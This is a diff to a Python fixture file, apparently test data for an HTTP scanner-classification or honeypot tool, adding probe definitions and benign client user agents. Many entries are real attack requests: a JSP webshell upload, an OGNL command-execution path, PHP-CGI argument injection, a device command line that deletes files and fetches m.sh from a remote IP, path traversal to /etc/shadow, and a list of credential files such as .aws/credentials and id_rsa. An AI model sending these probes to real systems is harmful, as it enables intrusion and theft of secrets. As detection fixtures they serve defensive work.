@@ -83,6 +83,9 @@ TOMCAT = (
     _probe("/manager/html", status="401 Unauthorized"),
     _probe("/host-manager/html", status="403 Forbidden"),
     _probe("/..;/manager/html"),
+    _probe("/manager/text/list", status="401 Unauthorized"),
+    _probe("/manager/status", status="401 Unauthorized"),
+    _probe("/manager/jmxproxy/?qry=x", status="403 Forbidden"),
     _probe("/shell.jsp/", "PUT", body=b"<% out.println(1); %>", content_type=_RAW),
     _probe(
         "/abc.session", "PUT", body=b"\xac\xed\x00\x05", content_type=_RAW, headers=("Content-Range: bytes 0-3/1200",)
@@ -111,9 +114,13 @@ JAVA = (
     _probe("/console/css/%252e%252e%252fconsole.portal"),
     _probe("/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"),
     _probe("/jolokia/list"),
+    _probe("/_async/AsyncResponseService"),
+    _probe("/console/images/%252e%252e%252fconsole.portal"),
+    _probe("/invoker/readonly"),
     _probe("/invoker/JMXInvokerServlet"),
 )
 PHP = (
+    _probe("/", agent="<?= 1 ?>"),
     _probe(
         "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
         "POST",
@@ -128,6 +135,8 @@ PHP = (
     _probe("/index.php?lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/"),
 )
 DEVICES = (
+    _probe("/cgi-bin/supervisor/Factory.cgi?action=x"),
+    _probe("/board.cgi?cmd=ls"),
     _probe(
         "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/var/x;wget+http://198.51.100.66/m.sh",
         agent="Hello, world",
@@ -165,30 +174,28 @@ GATEWAYS = (
     _probe("/guestaccess.aspx"),
     _probe("/ui/vropspluginui/rest/services/uploadova", "POST", body=b"x"),
 )
-SECRETS = tuple(
-    _probe(target)
-    for target in (
-        "/.env",
-        "/.git/config",
-        "/.git/HEAD",
-        "/.aws/credentials",
-        "/.ssh/id_rsa",
-        "/wp-config.php.bak",
-        "/config.json",
-        "/backup.sql",
-        "/dump.sql.gz",
-        "/actuator/env",
-        "/actuator/heapdump",
-        "/server-status",
-        "/phpinfo.php",
-        "/.svn/entries",
-        "/.DS_Store",
-        "/web.config",
-        "/api/.env.production",
-        "/id_rsa",
-        "/.htpasswd",
-    )
+SECRET_FILES = (
+    "/.env",
+    "/.git/config",
+    "/.git/HEAD",
+    "/.aws/credentials",
+    "/.ssh/id_rsa",
+    "/wp-config.php.bak",
+    "/config.json",
+    "/backup.sql",
+    "/dump.sql.gz",
+    "/actuator/env",
+    "/actuator/heapdump",
+    "/server-status",
+    "/phpinfo.php",
+    "/.svn/entries",
+    "/.DS_Store",
+    "/web.config",
+    "/api/.env.production",
+    "/id_rsa",
+    "/.htpasswd",
 )
+SECRETS = tuple(_probe(target, reply=b"not found\n", reply_type="text/plain") for target in SECRET_FILES)
 TRAVERSAL = tuple(
     _probe(target)
     for target in (
@@ -196,6 +203,8 @@ TRAVERSAL = tuple(
         "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
         "/download?file=../../../../etc/passwd",
         "/static/..%2f..%2f..%2f..%2fetc%2fshadow",
+        "/static/%2e%2e/%2e%2e/readme",
+        "/view?f=C:/windows/win.ini",
         "/view?f=..\\..\\..\\windows\\win.ini",
         "/view?f=%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron",
     )
@@ -242,8 +251,13 @@ SCANNERS = (
     "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
     "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
     "l9explore/1.2.2",
+    "l9tcpid/v1.1.0",
+    "feroxbuster/2.10.2",
+    "Arachni/v1.6.1",
+    "OpenVAS-VT 22.4",
 )
 PACKAGE_MANAGERS = (
+    ("opkg/0.6.2", "mirror.harbour.example", "/openwrt/packages/Packages.gz"),
     ("Debian APT-HTTP/1.3 (2.6.1)", "deb.harbour.example", "/debian/dists/bookworm/InRelease"),
     ("Debian APT-HTTP/1.3 (2.6.1)", "deb.harbour.example", "/debian/pool/main/h/htop/htop_3.2.2-2_amd64.deb"),
     ("libdnf (Fedora Linux 42; server; Linux.x86_64)", "mirror.harbour.example", "/fedora/repodata/repomd.xml"),
@@ -258,6 +272,8 @@ PACKAGE_MANAGERS = (
     ),
 )
 LIBRARY_MANAGERS = (
+    ("Composer/2.7.2 (Linux; 6.1; PHP 8.2.18)", "repo.harbour.example", "/p2/a/b.json"),
+    ("NuGet Command Line/6.9.1 (Microsoft Windows)", "nuget.harbour.example", "/api/v2/package/a/1.0"),
     ("Apache-Maven/3.9.6 (Java 17.0.15; Linux 6.1)", "repo.harbour.example", "/maven2/org/a/b/1.0/b-1.0.jar"),
     ("Gradle/8.7 (Linux;6.1;amd64) (Debian;17.0.15)", "repo.harbour.example", "/maven2/org/a/c/1.0/c-1.0.jar"),
     ("pip/24.0 {}", "pypi.harbour.example", "/simple/requests/"),
@@ -288,13 +304,24 @@ MONITORS = (
     "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
     "Site24x7",
     "Consul Health Check",
+    "Nagios/4.5",
 )
 CONNECTIVITY = (
     ("connectivitycheck.gstatic.com", "/generate_204", "204 No Content"),
     ("captive.apple.com", "/hotspot-detect.html", "200 OK"),
     ("www.msftconnecttest.com", "/connecttest.txt", "200 OK"),
     ("detectportal.firefox.com", "/success.txt?ipv4", "200 OK"),
+    ("www.msftncsi.com", "/ncsi.txt", "200 OK"),
     ("nmcheck.gnome.org", "/check_network_status.txt", "200 OK"),
     ("network-test.debian.org", "/nm", "200 OK"),
     ("connectivity-check.ubuntu.com", "/", "204 No Content"),
+)
+
+TOKENS = (
+    "token 0123456789abcdef",
+    "ApiKey 0123456789abcdef",
+    "OAuth oauth_token=0123",
+    "AWS4-HMAC-SHA256 Credential=AKIA0/20261001/eu/s3/aws4_request, SignedHeaders=host, Signature=0",
+    "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAA=",
+    "Negotiate YIIBhg==",
 )
